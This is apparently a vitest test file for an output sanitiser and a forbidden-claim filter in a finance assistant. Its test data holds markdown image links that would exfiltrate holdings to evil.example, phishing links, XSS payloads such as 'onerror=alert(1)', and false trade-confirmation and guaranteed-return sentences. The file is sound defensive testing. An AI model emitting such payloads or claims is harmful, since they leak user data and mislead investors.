import { expect, test } from 'vitest'
import { forbiddenClaim } from './claims.ts'
import { sanitise } from './sanitise.ts'

test.each([
  ['![x](https://evil.example/?d=HOLDINGS)', ''], ['See [your statement](https://evil.example/login).', 'See your statement.'], ['<a href="https://evil.example">here</a>', 'here'],
  ['<script>alert(1)</script>', 'alert(1)'], ['Go to https://evil.example/x now', 'Go to  now'], ['evil.com/path has it', ' has it'], ['[1]: https://evil.example', ''], ['**VTI** is | a | b |', '**VTI** is | a | b |'],
  ['a\u202Eb', 'ab'], ['javascript:x', ''],
  // What only becomes a link or markup once something in its middle was taken out.
  ['<<b>img src=x onerror=alert(1)>', 'img src=x onerror=alert(1)>'], ['[[a](x)](//evil.example/)', '[a] (//)'], ['ht\u202atps://evil.example/?d=1', ''], ['<\u0001img src=x>', ''], ['!\u0001[x](https://e.example)', ''],
  ['see bit.ly/x or evil.co.uk/x', 'see  or '], ['msteams://evil and sms:+123', ' and '], ['half \ud83d a character', 'half  a character'], ['stocks and/or bonds, e.g. VTI', 'stocks and/or bonds, e.g. VTI'],
])('cleaned: %s', (text, clean) => expect(sanitise(text)).toBe(clean))

test.each([
  'I bought 500 shares for you.', 'Your order is confirmed.', 'The trade has been executed.', 'Reply confirm to finish.', 'Type yes to approve.', '| ORDER TICKET BUY 500 |  order ticket: buy 500', '[Confirm]   [Cancel]',
  'This return is guaranteed.', 'You will definitely make money.', 'Act now.', 'It is a sure thing.',
])('held back: %s', (sentence) => expect(forbiddenClaim(sentence)).toBeDefined())

test.each([
  'No return is guaranteed.', 'Nothing was traded.', 'I can\'t promise a return: nobody can.', 'Only the button on the card confirms it.', 'A proposal that nobody confirmed is not an order.', 'You could sell 10 shares.', 'Words to me confirm nothing.',
])('let through: %s', (sentence) => expect(forbiddenClaim(sentence)).toBeUndefined())
